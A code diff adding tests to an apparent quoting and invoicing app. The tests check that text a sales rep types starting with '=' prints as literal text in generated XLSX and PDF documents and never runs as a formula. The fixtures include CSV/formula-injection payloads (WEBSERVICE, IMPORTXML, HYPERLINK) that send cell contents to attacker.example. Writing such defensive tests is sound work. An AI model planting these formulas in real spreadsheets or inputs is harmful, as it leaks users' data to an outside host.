@@ -4,6 +4,7 @@
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { RuleSetDocument } from '../schemas/rule-set.js';
+import { workbookHtml } from '../server/documents/html-rendering.js';
 import { createHarness, type Harness } from './support/harness.js';
 import { customerInCosting } from './support/customers.js';
 import { buildZip } from './support/xlsx-zip.js';
@@ -311,5 +312,91 @@ describe('uploaded templates', () => {
     const res = await upload(await template(VALID), { kind: 'proforma_invoice', language: 'en', name: 'PI' });
     expect(res.status).toBe(400);
     expect(res.body.error.details.problems).toContainEqual({ reason: 'missing the required placeholder ${company.bankAccount}' });
+  });
+});
+
+describe('text a rep typed', () => {
+  // xlsx-template makes a value that starts with "=" a formula: what a rep types must print as typed,
+  // never compute or call out; the template's own formulas keep working.
+  const TYPED = {
+    contactName: '=1+1',
+    sku: '=1+1',
+    description: '=WEBSERVICE("http://attacker.example/?"&A1)',
+    note: '=SUM(G13:G14)*0',
+    incoterms: '=A1',
+    paymentTerms: '=IMPORTXML("http://attacker.example/","//a")',
+    comment: '=2*3',
+  };
+
+  let customers = 0;
+  /** An approved quote of a customer whose every field, item and approval comment starts with "=". */
+  async function typedQuote() {
+    const companyName = `=HYPERLINK("http://attacker.example/?n=${++customers}&c="&B8,"Click")`;
+    const customerId = await h.createCustomer({ assign: false, companyName, contactName: TYPED.contactName });
+    expect((await h.call(rep.token, 'POST', `/customers/${customerId}/claim`)).status).toBe(200);
+    await ok(rep.token, 'POST', `/customers/${customerId}/inquiry`, {});
+    await ok(rep.token, 'POST', `/customers/${customerId}/costing`, {});
+    const items = [{ ...ITEMS[0]!, sku: TYPED.sku, description: TYPED.description }, ITEMS[1]!];
+    const quote = await ok(rep.token, 'POST', `/customers/${customerId}/quotes`, { currency: 'USD', discountPct: 12, marginPct: 22, items, validUntil: '2027-01-31', note: TYPED.note });
+    const quoteId = quote.quote.id as string;
+    await ok(manager.token, 'POST', `/approvals/${quoteId}/approve`, { comment: TYPED.comment });
+    await ok(h.adminToken, 'POST', `/approvals/${quoteId}/approve`, { comment: 'ok' });
+    return { quoteId, companyName };
+  }
+
+  /** The cells holding a formula, by address, with the formula. */
+  function formulas(s: ExcelJS.Worksheet) {
+    const found: Record<string, string> = {};
+    s.eachRow((row) => row.eachCell((cell) => {
+      if (cell.type === ExcelJS.ValueType.Formula) found[cell.address] = String(cell.formula);
+    }));
+    return found;
+  }
+
+  it('is printed as text in every field of the built-in template, in the XLSX and in the PDF', async () => {
+    const { quoteId, companyName } = await typedQuote();
+    const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'proforma_invoice', language: 'en', incoterms: TYPED.incoterms, paymentTerms: TYPED.paymentTerms });
+    const bytes = (await download(rep.token, `/documents/${doc.id}/file`)).bytes;
+    const s = await open(bytes);
+    expect(formulas(s)).toEqual({});
+    const printed = { B7: companyName, B8: TYPED.contactName, B13: TYPED.sku, C13: TYPED.description, C17: TYPED.incoterms, C18: TYPED.paymentTerms, C19: TYPED.note, F33: TYPED.comment };
+    for (const [ref, text] of Object.entries(printed)) expect([ref, s.getCell(ref).value]).toEqual([ref, text]);
+    // The PDF is printed from the same workbook: the text is there, as typed.
+    const html = await workbookHtml(bytes, 'x');
+    for (const text of Object.values(printed)) expect(html).toContain(`>${text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`)}<`);
+  });
+
+  it("is printed as text in an uploaded template's cells, alone or among other text, and its own formulas stay", async () => {
+    const cells = {
+      ...VALID,
+      A1: '${customer.name} / ${customer.contact}',
+      E4: '${table:items.sku}',
+      E5: '=SUM(D4:D4)',
+      A8: '${incoterms} / ${paymentTerms}',
+      A9: '${quote.note}',
+      A10: '${table:approvals.comment}',
+    };
+    const saved = await upload(await template(cells), { kind: 'quotation', language: 'en', name: 'typed text' });
+    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
+    try {
+      const { quoteId, companyName } = await typedQuote();
+      const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: saved.body.id, incoterms: TYPED.incoterms, paymentTerms: TYPED.paymentTerms });
+      const s = await open((await download(rep.token, `/documents/${doc.id}/file`)).bytes);
+      // The item rows pushed everything below row 4 down by one.
+      expect(formulas(s)).toEqual({ E6: 'SUM(D4:D4)' });
+      const printed = {
+        A1: `${companyName} / ${TYPED.contactName}`,
+        A4: TYPED.description,
+        E4: TYPED.sku,
+        E5: 'PNL-450',
+        A9: `${TYPED.incoterms} / ${TYPED.paymentTerms}`,
+        A10: TYPED.note,
+        A11: TYPED.comment,
+        A12: 'ok',
+      };
+      for (const [ref, text] of Object.entries(printed)) expect([ref, s.getCell(ref).value]).toEqual([ref, text]);
+    } finally {
+      await ok(h.adminToken, 'DELETE', `/document-templates/${saved.body.id}`);
+    }
   });
 });
